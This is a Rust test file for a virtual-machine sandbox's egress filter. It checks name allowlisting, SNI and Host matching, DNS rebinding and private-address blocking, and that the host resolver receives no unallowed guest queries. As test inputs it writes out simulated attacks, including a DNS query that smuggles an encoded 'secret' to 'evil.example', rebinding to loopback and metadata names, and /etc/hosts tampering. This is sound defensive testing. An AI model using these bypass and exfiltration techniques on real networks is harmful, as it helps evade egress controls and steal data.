//! Rules for names: what the guest resolves, and what the first bytes of its connections have to be.

use std::fs;

use crate::rig::{Namespaces, TestHome, Vm, eventually, reasons, show};

#[test]
fn a_name_is_resolved_and_reached_only_where_a_rule_names_it() {
    let home = TestHome::new();
    let namespaces = Namespaces::new(&home);
    let vm = namespaces.spawn(&home, "web", &["--allow", "example.com:22,80,443,8443"]);
    // Before it is resolved, its address is one as any other.
    assert_eq!(show(&vm, "show('93.184.215.14', 80, [request('example.com')])"), "ECONNREFUSED");
    assert_eq!(show(&vm, "print(socket.gethostbyname('EXAMPLE.com'))"), "93.184.215.14");
    let v6 = "print([a[4][0] for a in socket.getaddrinfo('example.com', 80, socket.AF_INET6)][0])";
    assert_eq!(show(&vm, v6), "2606:2800:21f::1");
    for address in ["93.184.215.14", "2606:2800:21f::1"] {
        let reached = format!("show('{address}', 80, [request('example.com')])");
        assert_eq!(show(&vm, &reached), "seen", "{address}");
        assert_eq!(show(&vm, &format!("show('{address}', 443, [hello('example.com')])")), "seen", "{address}");
        // Server names and hosts of others at the same address, also in a later request.
        for denied in [
            format!("show('{address}', 443, [hello('shared.example.net')])"),
            format!("show('{address}', 8443, [hello('shared.example.net')])"),
            format!("show('{address}', 443, [hello(None)])"),
            format!("show('{address}', 443, [b'GET / HTTP/1.1'])"),
            format!("show('{address}', 80, [request('shared.example.net')])"),
            format!("show('{address}', 80, [request('example.com'), request('shared.example.net')])"),
            format!("show('{address}', 80, [request('{address}')])"),
        ] {
            assert_eq!(show(&vm, &denied), "ECONNRESET", "{denied}");
        }
        // Where the server speaks first, the address decides.
        assert_eq!(show(&vm, &format!("show('{address}', 22, [])")), "SSH-2.0-test", "{address}");
    }
    // A neighbor of an allowed address, and a name with another address.
    assert_eq!(show(&vm, "show('93.184.215.15', 80, [request('example.com')])"), "ECONNREFUSED");
    assert_eq!(show(&vm, "show('www.example.com', 80, [])"), "gaierror");
    vm.sh("echo 93.184.215.15 example.com >> /etc/hosts").ok();
    assert_eq!(show(&vm, "show('example.com', 80, [request('example.com')])"), "ECONNREFUSED");
    let reasons = reasons(&vm);
    for reason in ["address_not_learned", "name_not_allowed", "sni_mismatch", "sni_missing", "host_mismatch"] {
        assert!(reasons.iter().any(|found| found == reason), "{reason} is not among {reasons:?}");
    }
}

#[test]
fn a_name_leads_to_no_private_address() {
    let home = TestHome::new();
    let namespaces = Namespaces::new(&home);
    let vm = namespaces.spawn(&home, "web", &["--allow", "*.example.com:*"]);
    for name in ["inside", "loop", "mapped"] {
        assert_eq!(show(&vm, &format!("show('{name}.example.com', 80, [])")), "gaierror", "{name}");
    }
    assert_eq!(show(&vm, "show('10.1.2.3', 80, [])"), "ECONNREFUSED");
    let denied =
        vm.info()["network"]["denials"].as_array().unwrap().iter().find(|d| d["name"] == "inside.example.com").cloned();
    assert_eq!(denied.unwrap()["rule"], "10.1.2.3");
    // The apex is not below the wildcard.
    assert_eq!(show(&vm, "show('example.com', 80, [])"), "gaierror");
    assert_eq!(show(&vm, "show('www.example.com', 80, [request('www.example.com')])"), "seen");
}

#[test]
fn the_name_server_answers_only_for_addresses_of_allowed_names() {
    let home = TestHome::new();
    let namespaces = Namespaces::new(&home);
    let vm = namespaces.spawn(&home, "web", &["--allow", "example.com"]);
    // Type, name -> the response code and the number of answers; over UDP, and with `True` over TCP.
    let ask = r#"
import struct
def ask(name, kind, tcp=False, server='10.0.2.3'):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    query = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>2H', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(20)
    try:
        s.connect((server, 53))
        s.sendall(struct.pack('>H', len(query)) + query if tcp else query)
        answer = s.recv(4096)[2 if tcp else 0:]
        print(answer[3] & 15, struct.unpack('>H', answer[6:8])[0], end='; ')
    except OSError as e: print(errno.errorcode.get(e.errno, type(e).__name__), end='; ')
"#;
    let calls = "ask('example.com', 1); ask('example.com', 28); ask('example.com', 16); ask('example.com', 65); \
         ask('example.com', 1, True); ask('evil.example', 1); ask('evil.example', 16); ask('x.example.com', 1); \
         ask('host.nido.internal', 1); ask('example.com', 1, False, '8.8.8.8'); ask('example.com', 1, True, '8.8.8.8')";
    let answers = show(&vm, &format!("{ask}\n{calls}"));
    assert_eq!(answers, "0 1; 0 1; 0 0; 0 0; 0 1; 3 0; 3 0; 3 0; 0 1; ECONNREFUSED; ECONNREFUSED; ");
}

#[test]
fn the_hosts_name_server_gets_no_word_of_the_guests() {
    let home = TestHome::new();
    let namespaces = Namespaces::new(&home);
    let vm = namespaces.spawn(&home, "web", &["--allow", "*.dns.example.com"]);
    let ask = r#"
import struct
def ask(name, kind):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.connect(('10.0.2.3', 53))
    s.send(struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>2H', kind, 1))
    answer = s.recv(4096); print(answer[3] & 15, struct.unpack('>H', answer[6:8])[0], end='; ')
"#;
    // Names that no rule names, and other types (TXT, NULL, ANY, HTTPS) of one that is allowed.
    let calls = "ask('c2VjcmV0.evil.example', 1); ask('c2VjcmV0.evil.example', 16); ask('dns.example.com', 1)\n\
                 for kind in (16, 10, 255, 65): ask('public.dns.example.com', kind)";
    assert_eq!(show(&vm, &format!("{ask}\n{calls}")), "3 0; 3 0; 3 0; 0 0; 0 0; 0 0; 0 0; ");
    assert_eq!(namespaces.queries(), "");
    // The case of letters carries nothing, and neither does the type of the question.
    assert_eq!(show(&vm, &format!("{ask}\nask('PuBLic.dNS.eXample.COM', 1)")), "0 1; ");
    let queries = namespaces.queries();
    assert!(!queries.is_empty());
    for query in queries.lines() {
        assert!(["public.dns.example.com 1", "public.dns.example.com 28"].contains(&query), "{queries}");
    }
}

#[test]
fn answers_of_the_hosts_name_server_lead_to_no_private_address() {
    let home = TestHome::new();
    let namespaces = Namespaces::new(&home);
    let vm = namespaces.spawn(&home, "web", &["--allow", "*.dns.example.com"]);
    let resolve = |name: &str| {
        let name = format!("{name}.dns.example.com");
        show(
            &vm,
            &format!(
                "try: print(*sorted({{a[4][0] for a in socket.getaddrinfo('{name}', 80)}}))\n\
                 except socket.gaierror: print('unknown')"
            ),
        )
    };
    // The answer is public once, and leads inside from then on.
    assert_eq!(resolve("rebind"), "93.184.215.14");
    assert_eq!(show(&vm, "show('93.184.215.14', 80, [request('rebind.dns.example.com')])"), "seen");
    assert_eq!(resolve("rebind"), "unknown");
    for address in ["127.0.0.1", "10.0.0.1", "::ffff:10.0.0.1", "10.0.2.2", "0.0.0.0"] {
        let ended = show(&vm, &format!("show('{address}', 80, [request('rebind.dns.example.com')])"));
        assert!(ended.starts_with('E'), "{address}: {ended}");
    }
    for name in ["alias", "metadata"] {
        assert_eq!(resolve(name), "unknown", "{name}");
    }
    // The names in the middle of a chain need no rule, and get none.
    assert_eq!(resolve("chain"), "93.184.215.14");
    assert_eq!(show(&vm, "show('middle.corp.example', 80, [])"), "gaierror");
    assert_eq!(resolve("many").split_whitespace().count(), 200);
    let reasons = reasons(&vm);
    assert!(reasons.iter().any(|reason| reason == "address_private"), "{reasons:?}");
}

#[test]
fn the_hosts_own_addresses_are_reached_only_by_rule() {
    let home = TestHome::new();
    let namespaces = Namespaces::new(&home);
    let vm = namespaces.spawn(&home, "web", &["--allow", "example.com:*"]);
    let addresses = ["10.77.0.1", "fd77::1", "10.0.2.2", "fd6e:6964:6f::2", "127.0.0.1", "::1", "0.0.0.0", "::"];
    for address in addresses.into_iter().chain(["::ffff:10.77.0.1", "::ffff:127.0.0.1"]) {
        for port in [22, 80] {
            let ended = show(&vm, &format!("show('{address}', {port}, [])"));
            assert!(ended.starts_with('E'), "{address}: {ended}");
        }
    }
    // The same with a rule, which is added while the VM runs and removed again.
    let reached = "show('10.77.0.1', 22, []); show('fd77::1', 22, [])";
    namespaces.nido(&home, &["net", "allow", "web", "10.77.0.1:22", "[fd77::1]:22"]).ok();
    assert_eq!(show(&vm, reached), "SSH-2.0-test\nSSH-2.0-test");
    namespaces.nido(&home, &["net", "deny", "web", "10.77.0.1:22", "[fd77::1]:22"]).ok();
    assert_eq!(show(&vm, reached), "ECONNREFUSED\nECONNREFUSED");
}

#[test]
fn what_a_guest_has_resolved_is_kept_with_its_memory() {
    let home = TestHome::new();
    let namespaces = Namespaces::new(&home);
    let vm = namespaces.spawn(&home, "web", &["--allow", "example.com:22"]);
    // Programs that keep an address and do not ask again.
    let reach = "show('93.184.215.14', 22, []); show('2606:2800:21f::1', 22, [])";
    let (reached, refused) = ("SSH-2.0-test\nSSH-2.0-test", "ECONNREFUSED\nECONNREFUSED");
    assert_eq!(show(&vm, reach), refused);
    assert_eq!(show(&vm, "socket.getaddrinfo('example.com', 22); show('93.184.215.14', 22, [])"), "SSH-2.0-test");
    let stored = || fs::read_to_string(vm.dir().join("names.json")).is_ok_and(|text| text.contains("2606:2800:21f::1"));
    eventually("stored names", || stored().then_some(()));
    vm.kill_supervisor();
    namespaces.nido(&home, &["exec", "web", "--", "true"]).ok();
    assert_eq!(show(&vm, reach), reached, "after its supervisor was replaced");
    namespaces.nido(&home, &["fork", "web", "copy"]).ok();
    assert_eq!(show(&Vm { home: &home, name: "copy" }, reach), reached, "in a copy");
    namespaces.nido(&home, &["snapshot", "create", "web", "s"]).ok();
    // A guest that boots has resolved nothing.
    namespaces.nido(&home, &["restart", "web"]).ok();
    assert_eq!(show(&vm, reach), refused, "after a boot");
    namespaces.nido(&home, &["snapshot", "restore", "web", "s"]).ok();
    assert_eq!(show(&vm, reach), reached, "after a restore");
    // The rules decide at each connection.
    namespaces.nido(&home, &["net", "deny", "web", "example.com:22"]).ok();
    assert_eq!(show(&vm, reach), refused, "without its rule");
}
